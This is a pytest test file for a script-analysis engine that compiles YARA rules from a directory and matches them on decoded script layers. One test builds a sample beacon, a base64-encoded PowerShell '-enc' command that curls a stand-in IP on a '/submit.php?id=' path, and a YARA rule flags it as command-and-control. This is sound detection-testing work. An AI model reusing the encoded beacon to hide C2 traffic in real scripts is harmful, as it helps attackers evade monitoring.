"""An organisation's YARA rules: compiled from a directory, matched on every decoded layer."""

from __future__ import annotations

import base64
import time
from pathlib import Path

import pytest

from wingman.adapters.yara_rules import YaraRules, YaraUnavailable
from wingman.config import ScriptSettings
from wingman.core.models import AnalyzeScriptRequest
from wingman.engines import script_engine

pytest.importorskip("yara")

RULES = """
rule beacon_path : c2 {
    meta:
        description = "Contacts the team's known beacon path"
        severity = "high"
        mitre_attack = "T1071.001, T1105"
        score = 55
    strings:
        $path = "/submit.php?id=" nocase
    condition:
        $path
}
"""
CONDITION_ONLY = 'rule tiny_file { meta: severity = "low" condition: filesize < 4 }'


def write(directory: Path, name: str, text: str) -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def analyze(directory: Path, content: str) -> object:
    engine = script_engine(ScriptSettings(yara_dir=directory))
    return engine.run(AnalyzeScriptRequest(content=content), deadline=time.monotonic() + 10)


def test_a_match_is_a_behaviour_with_evidence_in_the_decoded_layer(tmp_path: Path) -> None:
    write(tmp_path, "team/c2.yar", RULES)
    hidden = base64.b64encode("curl http://198.51.100.3/submit.php?id=7".encode("utf-16-le"))
    response = analyze(tmp_path, f"powershell -enc {hidden.decode()}")
    behavior = next(b for b in response.behaviors if b.id.startswith("yara:"))
    assert behavior.id == "yara:team_c2:beacon_path"
    assert behavior.title == "Contacts the team's known beacon path"
    assert behavior.severity.value == "high"
    assert behavior.attack == ("T1071.001", "T1105")
    evidence = behavior.evidence[0]
    assert evidence.layer >= 1
    assert evidence.text.lower() == "/submit.php?id="
    assert {"T1071.001", "T1105"} <= {t.id for t in response.attack_techniques}
    assert response.score >= 55


def test_evidence_offsets_count_code_points_not_bytes(tmp_path: Path) -> None:
    write(tmp_path, "c2.yara", RULES)
    response = analyze(tmp_path, "é€😀 /SUBMIT.php?id=1")
    evidence = next(b for b in response.behaviors if b.id.startswith("yara:")).evidence[0]
    assert evidence.text == "/SUBMIT.php?id="
    assert evidence.span.column == 5


def test_condition_only_rules_point_at_the_layer(tmp_path: Path) -> None:
    write(tmp_path, "tiny.yar", CONDITION_ONLY)
    response = analyze(tmp_path, "id")
    behavior = next(b for b in response.behaviors if b.id == "yara:tiny:tiny_file")
    assert behavior.severity.value == "low"
    assert behavior.evidence[0].text == "id"


def test_the_rules_fingerprint_is_part_of_the_engine_version(tmp_path: Path) -> None:
    write(tmp_path, "c2.yar", RULES)
    first = script_engine(ScriptSettings(yara_dir=tmp_path)).version
    write(tmp_path, "tiny.yar", CONDITION_ONLY)
    second = script_engine(ScriptSettings(yara_dir=tmp_path)).version
    assert first != second
    assert first.startswith("0.")
    assert "+yara." in first


def test_rules_that_do_not_compile_degrade_every_answer(tmp_path: Path) -> None:
    write(tmp_path, "broken.yar", "rule broken { condition: $nothing }")
    response = analyze(tmp_path, "echo hello")
    assert response.degraded is not None
    assert "yara" in response.degraded.reasons[0]
    assert "do not compile" in response.degraded.reasons[0]


def test_an_empty_or_missing_directory_is_refused_with_the_reason(tmp_path: Path) -> None:
    with pytest.raises(YaraUnavailable, match=r"no \.yar"):
        YaraRules.from_directory(tmp_path)
    with pytest.raises(YaraUnavailable, match="not a directory"):
        YaraRules.from_directory(tmp_path / "absent")
